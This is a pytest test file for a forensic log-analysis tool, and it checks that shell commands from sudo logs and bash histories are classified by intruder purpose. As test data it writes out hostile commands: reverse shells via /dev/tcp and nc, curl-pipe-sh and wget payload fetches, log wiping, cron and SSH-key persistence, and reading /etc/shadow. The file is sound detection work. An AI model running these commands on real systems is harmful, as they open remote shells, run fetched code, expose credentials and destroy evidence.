"""Commands classified by what they do for an intruder, from what recorded them (sudo here; shell
histories and auditd execve records in tests/ingest)."""

from __future__ import annotations

import pytest

from logsalvage.config import parse_config
from logsalvage.detect import commands
from logsalvage.detect.context import Context, settings_from
from logsalvage.ingest import ingest
from logsalvage.store import CaseStore


@pytest.mark.parametrize("command, classes", [
    ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", ["reverse_shell"]),
    ("nc -e /bin/sh 203.0.113.5 80", ["reverse_shell"]),
    ("python -c 'import socket,subprocess,os;s=socket.socket()'", ["reverse_shell"]),
    ("./xmrig -o stratum+tcp://pool.example:3333", ["miner"]),
    ("history -c", ["anti_forensics"]),
    ("rm -f /var/log/httpd/access_log", ["anti_forensics"]),
    ("cat /dev/null > /var/log/secure", ["anti_forensics"]),
    ("curl -s http://203.0.113.5/x | sh", ["download_execute"]),
    ("wget http://203.0.113.5/upd -O /tmp/upd", ["download_execute"]),
    ("cd /dev/shm; wget http://203.0.113.5/a", ["download_execute"]),
    ('(crontab -l; echo "* * * * * /tmp/upd") | crontab -', ["persistence"]),
    ("crontab /tmp/c", ["persistence"]),
    ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", ["persistence"]),
    ("useradd -m -s /bin/bash backup", ["persistence"]),
    ("cat /etc/shadow", ["credential_access"]),
    ("pg_dump -U postgres ferry > /tmp/f.sql", ["data_staging"]),
    ("tar czf /tmp/w.tgz /var/www/html", ["data_staging"]),
    ("uname -a", ["recon"]),
    ("find / -type d -perm -o+w", ["recon"]),
    # the administrator's routine: nothing
    ("crontab -r -u nobody", []), ("/bin/crontab -l -u nobody", []), ("/bin/ls /var/log/httpd", []),
    ("/usr/bin/yum check-update", []), ("/sbin/shutdown -h now", []), ("/bin/kill -9 2914", []),
    ("curl -I https://www.example.com/", []),
])
def test_classify(command, classes):
    assert [c for c, _ in commands.classify(command)] == classes


def test_findings_group_by_user_and_class(tmp_path):
    ev = tmp_path / "ev/web01/var/log"
    ev.mkdir(parents=True)
    (ev / "secure").write_text(
        "Dec 25 15:00:00 web01 sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/bin/ls /tmp\n"
        "Dec 25 15:01:00 web01 sudo:    nobody : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.5/upd -O /tmp/upd\n"
        "Dec 25 15:02:00 web01 sudo:    nobody : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.5/x\n"
        "Dec 25 15:03:00 web01 sudo:    nobody : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/secure\n")
    config = parse_config({"acquired": "2018-01-06T00:00:00+00:00", "hosts": {"web01": {"timezone": "UTC"}}}, "t")
    ingest([tmp_path / "ev"], tmp_path / "case", config=config)
    with CaseStore(tmp_path / "case") as store:
        found = commands.detect(Context(store, settings_from(config)))
    got = {(f.rule, f.detail["user"], f.count, f.severity) for f in found}
    assert got == {("host.command.download_execute", "nobody", 2, "medium"),
                   ("host.command.anti_forensics", "nobody", 1, "high")}


def test_shell_histories_dated_and_undated(tmp_path):
    """bash with HISTTIMEFORMAT (#epoch lines) dates each command; without it the commands stand at
    the file's modification time, marked undated."""
    import os

    home = tmp_path / "ev/web01/home/deploy"
    home.mkdir(parents=True)
    (home / ".bash_history").write_text(
        "#1514183336\nls\n#1514183340\ncurl -s http://203.0.113.5/i.sh | sh\n#1514183350\nhistory -c\n")
    root = tmp_path / "ev/web01/root"
    root.mkdir(parents=True)
    (root / ".bash_history").write_text("w\ncat /etc/shadow\n")
    os.utime(root / ".bash_history", (1514200000, 1514200000))
    config = parse_config({"hosts": {"web01": {"timezone": "UTC"}}}, "t")
    ingest([tmp_path / "ev"], tmp_path / "case", config=config)
    with CaseStore(tmp_path / "case") as store:
        found = {f.rule: f for f in commands.detect(Context(store, settings_from(config)))}
    assert set(found) == {"host.command.download_execute", "host.command.anti_forensics",
                          "host.command.credential_access", "host.command.recon"}
    assert found["host.command.download_execute"].detail["user"] == "deploy"
    assert found["host.command.download_execute"].first_seen.timestamp() == 1514183340
    shadow = found["host.command.credential_access"]
    assert shadow.detail["user"] == "root" and shadow.detail["undated"] == 1
    assert shadow.first_seen.timestamp() == 1514200000
